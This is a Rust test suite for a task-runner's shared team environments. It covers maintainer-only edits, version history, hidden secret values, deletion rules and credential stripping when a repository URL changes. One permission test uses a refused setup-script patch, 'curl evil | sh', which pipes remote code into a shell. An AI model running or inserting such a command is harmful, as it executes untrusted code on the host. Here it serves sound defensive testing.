//! Environments shared by a team: who may use and change them, edits,
//! secrets, deletion and the version history.

use std::collections::BTreeMap;
use std::time::Duration;

use kiln_protocol::teams::{EnvironmentPatch, TeamRole};
use kiln_protocol::AttemptStatus;
use kiln_store::{AttemptReport, NewEnvironment, NewTask, StoreError};

const LEASE: Duration = Duration::from_secs(60);
const SECRET_VALUE: &str = "tok-5ecret-never-shown";

fn calc() -> NewEnvironment {
    NewEnvironment {
        name: "calc".into(),
        repo: "/srv/git/calc".into(),
        setup_script: Some("make deps".into()),
        env: BTreeMap::from([("MODE".into(), "fast".into())]),
        secrets: BTreeMap::from([("NPM_TOKEN".into(), SECRET_VALUE.into())]),
        ..NewEnvironment::default()
    }
}

fn forbidden(result: Result<impl std::fmt::Debug, StoreError>) -> String {
    match result {
        Err(StoreError::Forbidden { message }) => message,
        other => panic!("expected forbidden, got {other:?}"),
    }
}

on_both_backends! {
    async fn team_members_share_an_environment_and_only_maintainers_change_it(t) {
        let lead = t.user("lead").await;
        let mut dev = t.user("dev").await;
        let mut guest = t.user("guest").await;
        t.join(&mut dev, &lead, TeamRole::Member).await;
        t.join(&mut guest, &lead, TeamRole::Viewer).await;
        let env = t.store.create_environment(&lead, &calc()).await.unwrap();

        // Both members run tasks on it; the second finds it by name.
        let seen = t.store.environment(&dev, "calc").await.unwrap();
        assert_eq!(seen.id, env.id);
        assert_eq!(seen.secret_names, vec!["NPM_TOKEN".to_string()]);
        t.store.create_task(&lead, &NewTask::new(env.id.clone(), "one")).await.unwrap();
        let devs = t.store.create_task(&dev, &NewTask::new("calc", "two")).await.unwrap();
        assert_eq!(devs.task.environment_id, env.id);
        assert_eq!(devs.task.user_id, dev.user_id);

        // A viewer reads it but runs nothing on it.
        assert_eq!(t.store.environment(&guest, "calc").await.unwrap().id, env.id);
        let refused = forbidden(t.store.create_task(&guest, &NewTask::new("calc", "three")).await);
        assert!(refused.contains("viewer"), "{refused}");

        // A member's edit and secret changes are refused, and change nothing.
        let patch = EnvironmentPatch { setup_script: Some(Some("curl evil | sh".into())), ..Default::default() };
        let refused = forbidden(t.store.update_environment(&dev, "calc", &patch).await);
        assert!(refused.contains("maintainer"), "{refused}");
        forbidden(t.store.set_environment_secret(&dev, "calc", "NPM_TOKEN", "stolen").await);
        forbidden(t.store.set_environment_secret(&dev, "calc", "EXTRA", "x").await);
        forbidden(t.store.remove_environment_secret(&dev, "calc", "NPM_TOKEN").await);
        forbidden(t.store.delete_environment(&dev, "calc").await);
        forbidden(t.store.update_environment(&guest, "calc", &patch).await);
        let after = t.store.environment(&lead, "calc").await.unwrap();
        assert_eq!(after.version, 1);
        assert_eq!(after.setup_script.as_deref(), Some("make deps"));
        assert_eq!(after.secret_names, vec!["NPM_TOKEN".to_string()]);
        assert_eq!(t.store.environment_secrets(&env.id).await.unwrap()["NPM_TOKEN"], SECRET_VALUE);
        assert_eq!(t.store.environment_versions(&lead, "calc").await.unwrap().len(), 1);

        // Outside the team it does not exist.
        let stranger = t.store.create_token("stranger", false).await.unwrap();
        let stranger = t.store.verify_token(&stranger.secret).await.unwrap().unwrap();
        assert!(matches!(
            t.store.update_environment(&stranger, &env.id, &patch).await,
            Err(StoreError::NotFound { .. })
        ));
    }

    async fn edits_make_versions_that_say_who_changed_what(t) {
        let lead = t.user("lead").await;
        let env = t.store.create_environment(&lead, &calc()).await.unwrap();
        let patch = EnvironmentPatch {
            setup_script: Some(Some("make deps && make tools".into())),
            env: Some(BTreeMap::from([("MODE".into(), "slow".into())])),
            network: Some(false), // unchanged: not a change
            ..Default::default()
        };
        let edited = t.store.update_environment(&lead, "calc", &patch).await.unwrap();
        assert_eq!(edited.version, 2);
        assert_eq!(edited.setup_script.as_deref(), Some("make deps && make tools"));
        assert_eq!(edited.env["MODE"], "slow");
        assert!(edited.updated_at.is_some());

        // The same patch again changes nothing and adds no version.
        let again = t.store.update_environment(&lead, "calc", &patch).await.unwrap();
        assert_eq!(again.version, 2);

        let cleared = t.store.update_environment(&lead, &env.id, &EnvironmentPatch {
            setup_script: Some(None),
            base_branch: Some(Some("release".into())),
            ..Default::default()
        }).await.unwrap();
        assert_eq!(cleared.version, 3);
        assert_eq!(cleared.setup_script, None);

        let versions = t.store.environment_versions(&lead, "calc").await.unwrap();
        let summary: Vec<(u64, &str)> = versions.iter().map(|v| (v.version, v.change.as_str())).collect();
        assert_eq!(summary, vec![
            (3, "updated: base_branch, setup_script"),
            (2, "updated: setup_script, env"),
            (1, "created"),
        ]);
        assert!(versions.iter().all(|v| v.changed_by == lead.user_id));
        assert!(versions.iter().all(|v| v.changed_by_name.as_deref() == Some(lead.user_name.as_str())));
        assert_eq!(versions[1].snapshot.setup_script.as_deref(), Some("make deps && make tools"));
        assert_eq!(versions[2].snapshot.setup_script.as_deref(), Some("make deps"));

        let audited = t.raw_texts(
            "SELECT details FROM audit_events WHERE target_id = $1 AND action = 'environment.updated' ORDER BY id",
            &env.id,
        ).await;
        assert_eq!(audited.len(), 2);
        assert!(audited[0].contains("setup_script") && audited[0].contains("env"), "{audited:?}");
    }

    async fn an_edit_is_validated_like_a_creation(t) {
        let lead = t.user("lead").await;
        t.store.create_environment(&lead, &calc()).await.unwrap();
        t.store.create_environment(&lead, &NewEnvironment { name: "web".into(), ..calc() }).await.unwrap();
        let cases: Vec<(EnvironmentPatch, &str)> = vec![
            (EnvironmentPatch { name: Some("web".into()), ..Default::default() }, "already"),
            (EnvironmentPatch { name: Some(" ".into()), ..Default::default() }, "name"),
            (EnvironmentPatch { env: Some(BTreeMap::from([("1BAD".into(), "x".into())])), ..Default::default() }, "1BAD"),
            (EnvironmentPatch { budget_usd: Some(Some(-1.0)), ..Default::default() }, "budget"),
            (EnvironmentPatch {
                forge: Some(Some(kiln_protocol::ForgeConfig {
                    kind: kiln_protocol::ForgeKind::Github,
                    api_url: None,
                    repo: "o/calc".into(),
                    token_secret: "MISSING".into(),
                })),
                ..Default::default()
            }, "MISSING"),
        ];
        for (patch, needle) in cases {
            let err = t.store.update_environment(&lead, "calc", &patch).await.unwrap_err();
            assert!(err.to_string().contains(needle), "{patch:?}: {err}");
        }
        assert_eq!(t.store.environment(&lead, "calc").await.unwrap().version, 1);
    }

    async fn secrets_are_set_and_removed_without_their_values_showing(t) {
        let lead = t.user("lead").await;
        let env = t.store.create_environment(&lead, &calc()).await.unwrap();
        let set = t.store.set_environment_secret(&lead, "calc", "DEPLOY_KEY", "deploy-5ecret").await.unwrap();
        assert_eq!(set.version, 2);
        assert_eq!(set.secret_names, vec!["DEPLOY_KEY".to_string(), "NPM_TOKEN".to_string()]);
        let replaced = t.store.set_environment_secret(&lead, "calc", "NPM_TOKEN", "tok-rotated").await.unwrap();
        assert_eq!(replaced.version, 3);
        let values = t.store.environment_secrets(&env.id).await.unwrap();
        assert_eq!(values["NPM_TOKEN"], "tok-rotated");
        assert_eq!(values["DEPLOY_KEY"], "deploy-5ecret");

        let removed = t.store.remove_environment_secret(&lead, "calc", "DEPLOY_KEY").await.unwrap();
        assert_eq!(removed.secret_names, vec!["NPM_TOKEN".to_string()]);
        let missing = t.store.remove_environment_secret(&lead, "calc", "DEPLOY_KEY").await.unwrap_err();
        assert!(matches!(missing, StoreError::NotFound { .. }), "{missing}");
        assert!(missing.to_string().contains("DEPLOY_KEY"), "{missing}");
        let bad = t.store.set_environment_secret(&lead, "calc", "NOT A NAME", "x").await.unwrap_err();
        assert!(bad.to_string().contains("NOT A NAME"), "{bad}");

        let versions = t.store.environment_versions(&lead, "calc").await.unwrap();
        let changes: Vec<&str> = versions.iter().map(|v| v.change.as_str()).collect();
        assert_eq!(changes, vec![
            "secret removed: DEPLOY_KEY",
            "secret set: NPM_TOKEN",
            "secret set: DEPLOY_KEY",
            "created",
        ]);
        // Neither the versions, the audit trail nor the views hold a value.
        let everything = format!(
            "{} {:?} {:?}",
            serde_json::to_string(&versions).unwrap(),
            t.raw_texts("SELECT snapshot FROM environment_versions WHERE environment_id = $1", &env.id).await,
            t.raw_texts("SELECT details FROM audit_events WHERE target_id = $1", &env.id).await,
        );
        for value in [SECRET_VALUE, "deploy-5ecret", "tok-rotated"] {
            assert!(!everything.contains(value), "{value} leaked: {everything}");
        }
        assert!(everything.contains("DEPLOY_KEY"));
    }

    async fn deletion_waits_for_running_tasks_and_frees_the_name(t) {
        let lead = t.user("lead").await;
        let env = t.store.create_environment(&lead, &calc()).await.unwrap();
        let task = t.store.create_task(&lead, &NewTask::new("calc", "fix it")).await.unwrap();
        let queued = t.store.create_task(&lead, &NewTask::new("calc", "and this")).await.unwrap();
        let claimed = t.store.claim_next("w", LEASE).await.unwrap().unwrap();
        assert_eq!(claimed.task.id, task.task.id);

        // One task running, one queued: both named, and how to stop them.
        let refused = t.store.delete_environment(&lead, "calc").await.unwrap_err();
        let StoreError::Conflict { message } = &refused else { panic!("expected a conflict: {refused}") };
        assert!(message.contains("2 tasks"), "{message}");
        assert!(message.contains(&task.task.id) && message.contains(&queued.task.id), "{message}");
        assert!(message.contains("kiln task cancel"), "{message}");
        t.store.cancel_task(&lead, &queued.task.id).await.unwrap();
        let refused = t.store.delete_environment(&lead, "calc").await.unwrap_err();
        assert!(refused.to_string().contains("1 task "), "{refused}");
        assert_eq!(t.store.environment(&lead, "calc").await.unwrap().version, 1);

        t.store
            .finish("w", &claimed.attempt, &AttemptReport::new(AttemptStatus::Succeeded))
            .await
            .unwrap();
        t.store.delete_environment(&lead, "calc").await.unwrap();

        assert!(t.store.list_environments(&lead).await.unwrap().is_empty());
        assert!(matches!(t.store.environment(&lead, "calc").await, Err(StoreError::NotFound { .. })));
        // Its tasks stay readable; new ones cannot use it.
        assert_eq!(t.store.task(&lead, &task.task.id).await.unwrap().task.environment_id, env.id);
        assert!(t.store.create_task(&lead, &NewTask::new(env.id.clone(), "again")).await.is_err());
        let version = t.raw_texts(
            "SELECT change FROM environment_versions WHERE environment_id = $1 ORDER BY version DESC",
            &env.id,
        ).await;
        assert_eq!(version[0], "deleted");
        // The name is free again in the team.
        let again = t.store.create_environment(&lead, &calc()).await.unwrap();
        assert_ne!(again.id, env.id);
    }

    async fn concurrent_edits_become_two_versions(t) {
        let lead = t.user("lead").await;
        t.store.create_environment(&lead, &calc()).await.unwrap();
        let first = EnvironmentPatch { setup_script: Some(Some("one".into())), ..Default::default() };
        let second = EnvironmentPatch { image: Some(Some("localhost/two".into())), ..Default::default() };
        let (a, b) = tokio::join!(
            t.store.update_environment(&lead, "calc", &first),
            t.store.update_environment(&lead, "calc", &second),
        );
        let mut versions = vec![a.unwrap().version, b.unwrap().version];
        versions.sort_unstable();
        assert_eq!(versions, vec![2, 3]);
        let now = t.store.environment(&lead, "calc").await.unwrap();
        assert_eq!(now.setup_script.as_deref(), Some("one"));
        assert_eq!(now.image.as_deref(), Some("localhost/two"));
    }

    async fn a_new_repository_url_never_keeps_the_old_hosts_credential(t) {
        let lead = t.user("lead").await;
        let env = t.store.create_environment(&lead, &NewEnvironment {
            repo: "https://bot:gh-t0ken@git.example/calc.git".into(),
            ..calc()
        }).await.unwrap();
        // The URL as the API shows it, sent back: the credential stays.
        let same = t.store.update_environment(&lead, "calc", &EnvironmentPatch {
            repo: Some("https://git.example/calc.git".into()),
            ..Default::default()
        }).await.unwrap();
        assert_eq!(same.version, 1);
        assert!(t.store.environment_repo_credential(&env.id).await.unwrap().is_some());

        let moved = t.store.update_environment(&lead, "calc", &EnvironmentPatch {
            repo: Some("https://elsewhere.example/calc.git".into()),
            ..Default::default()
        }).await.unwrap();
        assert_eq!(moved.version, 2);
        assert!(!moved.repo_has_credential);
        assert!(t.store.environment_repo_credential(&env.id).await.unwrap().is_none());

        let with_new = t.store.update_environment(&lead, "calc", &EnvironmentPatch {
            repo: Some("https://bot:new-t0ken@elsewhere.example/calc.git".into()),
            ..Default::default()
        }).await.unwrap();
        assert_eq!(with_new.repo, "https://elsewhere.example/calc.git");
        assert!(with_new.repo_has_credential);
        let versions = serde_json::to_string(&t.store.environment_versions(&lead, "calc").await.unwrap()).unwrap();
        assert!(!versions.contains("t0ken"), "{versions}");
    }

    async fn tasks_and_attempts_record_the_version_they_ran_with(t) {
        let lead = t.user("lead").await;
        t.store.create_environment(&lead, &calc()).await.unwrap();
        let before = t.store.create_task(&lead, &NewTask::new("calc", "before")).await.unwrap();
        t.store.update_environment(&lead, "calc", &EnvironmentPatch {
            setup_script: Some(Some("make deps v2".into())),
            ..Default::default()
        }).await.unwrap();
        let after = t.store.create_task(&lead, &NewTask::new("calc", "after")).await.unwrap();
        assert_eq!(before.task.environment_version, Some(1));
        assert_eq!(after.task.environment_version, Some(2));
        // An attempt queued before the edit runs with the environment as it
        // is when claimed, and says so.
        while t.store.claim_next("w", LEASE).await.unwrap().is_some() {}
        for id in [&before.task.id, &after.task.id] {
            let detail = t.store.task(&lead, id).await.unwrap();
            assert_eq!(detail.attempts[0].environment_version, Some(2), "{id}");
        }
    }
}
